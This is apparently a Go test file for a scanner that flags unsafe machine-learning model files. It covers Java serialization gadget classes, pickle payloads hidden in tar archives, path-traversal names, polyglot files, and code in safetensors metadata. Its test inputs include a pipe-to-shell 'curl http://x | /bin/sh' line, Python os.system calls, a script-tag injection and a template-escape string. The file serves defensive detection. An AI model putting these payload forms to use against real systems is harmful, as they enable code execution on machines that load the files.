// Formats of other languages and frameworks: Java, TensorFlow, tar, safetensors.

package scan

import (
	"archive/tar"
	"bytes"
	"encoding/binary"
	"slices"
	"strings"
	"testing"

	"github.com/weightools/safetensors"
	"github.com/weightools/safetensors/pickle"
)

// javaClass describes a class without fields, by the Java Object Serialization
// Specification 6.4: TC_CLASSDESC, the name, eight bytes of a version, flags
// (serializable), no fields, the end of the annotations, and no parent.
func javaClass(name string) string {
	return "\x72" + string([]byte{byte(len(name) >> 8), byte(len(name))}) + name + "\x00\x00\x00\x00\x00\x00\x00\x01" + "\x02\x00\x00" + "\x78\x70"
}

// javaObject is a stream with an object of that class, and a block of data behind it.
func javaObject(name string) string { return "\xac\xed\x00\x05\x73" + javaClass(name) + "\x77\x01x" }

func TestJava(t *testing.T) {
	proxy := "\xac\xed\x00\x05\x73\x7d\x00\x00\x00\x01\x00\x0djava.util.Map\x78\x70\x77\x01x"
	for _, tt := range []struct {
		name, bytes string
		verdict     pickle.Verdict
		rules       string
		class       string
	}{
		{"a map", javaObject("java.util.HashMap"), pickle.Suspicious, "java-serialization", "java.util.HashMap"},
		{"a class of its own", javaObject("org.example.Model"), pickle.Suspicious, "java-serialization", "org.example.Model"},
		{"a gadget", javaObject("org.apache.commons.collections.functors.InvokerTransformer"), pickle.Dangerous, "java-gadget java-serialization", "org.apache.commons.collections.functors.InvokerTransformer"},
		{"an array of gadgets", javaObject("[Lorg.apache.commons.collections.functors.ChainedTransformer;"), pickle.Dangerous, "java-gadget java-serialization", ""},
		{"a name that only begins like one", javaObject("java.lang.RuntimeX"), pickle.Suspicious, "java-serialization", "java.lang.RuntimeX"},
		{"a proxy", proxy, pickle.Dangerous, "java-gadget java-serialization", "java.lang.reflect.Proxy"},
		{"a gadget behind damage", "\xac\xed\x00\x05\xff\xff\xff" + javaClass("javax.management.BadAttributeValueExpException") + "\x77\x01x", pickle.Dangerous, "java-gadget java-serialization", "javax.management.BadAttributeValueExpException"},
		{"no data", "\xac\xed\x00\x05\x73" + javaClass("org.example.Model"), pickle.Suspicious, "java-serialization truncated", "org.example.Model"},
		{"another version", "\xac\xed\x00\x09\x73", pickle.Suspicious, "java-serialization unsupported-format", ""},
	} {
		for _, form := range []struct {
			name  string
			bytes []byte
		}{{"x.ser", []byte(tt.bytes)}, {"x.ser.gz", gzipped(t, tt.bytes)}} {
			r := scanned(t, new(Scanner), form.bytes, form.name)
			if r.Verdict != tt.verdict || rules(r) != tt.rules || tt.class != "" && !imported(r, tt.class) {
				t.Errorf("%s, %s: %v (%s), want %v (%s): %v", tt.name, form.name, r.Verdict, rules(r), tt.verdict, tt.rules, r.Imports)
			}
		}
	}
	if r := scanned(t, new(Scanner), []byte("no java \xac\xed\x00\x05 text"), "x.txt"); r.Verdict != pickle.Unanalysed {
		t.Errorf("the magic in a text is %v", r.Verdict)
	}
}

// tarred returns a tar archive.
func tarred(t testing.TB, files ...file) []byte {
	t.Helper()
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for _, f := range files {
		if err := w.WriteHeader(&tar.Header{Name: f.name, Size: int64(len(f.content)), Mode: 0o644, Format: tar.FormatUSTAR}); err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(f.content)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestTar(t *testing.T) {
	sound := tarred(t, file{"m/model.pkl", benign}, file{"m/README.md", "text"})
	for _, tt := range []struct {
		name    string
		bytes   []byte
		verdict pickle.Verdict
		rules   string
	}{
		{"sound", sound, pickle.Safe, ""},
		{"a payload", tarred(t, file{"m/model.pkl", evil}), pickle.Dangerous, "dangerous-import"},
		{"a payload out of the folder", tarred(t, file{"../model.pkl", evil}), pickle.Dangerous, "dangerous-import unsafe-name"},
		{"a payload after the end", append(bytes.Clone(sound), evil...), pickle.Dangerous, "dangerous-import trailing-data"},
		{"Python source", tarred(t, file{"m/setup.py", "import os"}), pickle.Suspicious, "python-source-in-archive"},
		{"a checkpoint within", tarred(t, file{"m/model.pt", string(checkpoint(t))}), pickle.Safe, ""},
		{"an archive behind it", append(bytes.Clone(sound), zipped(t, file{"data.pkl", evil})...), pickle.Dangerous, "dangerous-import polyglot prefix-data trailing-data"},
	} {
		if r := scanned(t, new(Scanner), tt.bytes, "m.tar"); r.Format != "tar" || r.Verdict != tt.verdict || rules(r) != tt.rules {
			t.Errorf("%s: %s, %v (%s), want %v (%s): %v", tt.name, r.Format, r.Verdict, rules(r), tt.verdict, tt.rules, r.Findings)
		}
	}
}

// PyTorch 0.1 wrote four members with pickles and raw data in turn.
func TestOldTar(t *testing.T) {
	le := func(n uint64) string { return string(binary.LittleEndian.AppendUint64(nil, n)) }
	storages := "\x80\x02K\x01." + "\x80\x02K\x07X\x03\x00\x00\x00cpuctorch\nFloatStorage\n\x87." + le(2) + "12345678" + "\x80\x02]."
	tensors := "\x80\x02K\x01." + "\x80\x02K\x09K\x07ctorch\nFloatTensor\n\x87." + "\x01\x00\x00\x00????" + le(2) + le(1) + le(0)
	old := func(storages, tensors, object string) []byte {
		return tarred(t, file{"sys_info", benign}, file{"storages", storages}, file{"tensors", tensors}, file{"pickle", object})
	}
	const object = "\x80\x02X\x01\x00\x00\x009Q."
	for _, tt := range []struct {
		name    string
		bytes   []byte
		verdict pickle.Verdict
	}{
		{"sound", old(storages, tensors, object), pickle.Safe},
		{"a payload as the object", old(storages, tensors, evil), pickle.Dangerous},
		{"a payload among the storages", old("\x80\x02K\x01."+evil, tensors, object), pickle.Dangerous},
		{"a payload behind the storages", old(storages+evil, tensors, object), pickle.Dangerous},
		{"a payload behind the tensors", old(storages, tensors+evil, object), pickle.Dangerous},
		{"numbers that are cut off", old(storages[:len(storages)-8], tensors, object), pickle.Suspicious},
	} {
		if r := scanned(t, new(Scanner), tt.bytes, "m.pt"); r.Format != "pytorch-tar" || r.Verdict != tt.verdict {
			t.Errorf("%s: %s, %v: %v", tt.name, r.Format, r.Verdict, r.Findings)
		}
	}
}

// safetensorsFile returns a file with a tensor and the given metadata.
func safetensorsFile(t testing.TB, metadata map[string]string) []byte {
	t.Helper()
	tensor, err := safetensors.NewTensor("w", []float32{1}, 1)
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := (&safetensors.Encoder{Metadata: metadata}).Encode(&b, tensor); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestSafetensors(t *testing.T) {
	for _, tt := range []struct {
		name, value string
		rules       string
	}{
		{"a format", "pt", ""},
		{"prose", "This model was evaluated with model.eval() and imports nothing.", ""},
		{"numbers", `{"epochs": 3, "lr": 0.1, "loss": [1, 2]}`, ""},
		{"code", "__import__('os').system('true')", "metadata-code"},
		{"code with imports", "import os; os.system('true')", "metadata-code"},
		{"markup", `<ScRiPt>alert(1)</script>`, "metadata-code"},
		{"a template", "{{ x.__class__.__mro__ }}", "metadata-code template-escape"},
		{"a pickle in base64", "gASVBAAAAAAAAAB9lC4=", "metadata-code"},
		{"a shell", "curl http://x | /bin/sh", "metadata-code"},
	} {
		r := scanned(t, new(Scanner), safetensorsFile(t, map[string]string{"format": tt.value}), "m.safetensors")
		if r.Format != "safetensors" || rules(r) != tt.rules || r.Verdict == pickle.Dangerous {
			t.Errorf("%s: %s, %v (%s), want %s: %v", tt.name, r.Format, r.Verdict, rules(r), tt.rules, r.Findings)
		}
	}
	sound := safetensorsFile(t, nil)
	if r := scanned(t, new(Scanner), sound, "model.bin"); r.Verdict != pickle.Safe || notes(r) != "look-alike" {
		t.Errorf("called .bin: %v (%s)", r.Verdict, notes(r))
	}
	if r := scanned(t, new(Scanner), slices.Concat(sound, zipped(t, file{"data.pkl", evil})), "m.safetensors"); r.Verdict != pickle.Dangerous || !strings.Contains(rules(r), "polyglot") {
		t.Errorf("with an archive behind it: %v (%s)", r.Verdict, rules(r))
	}
}
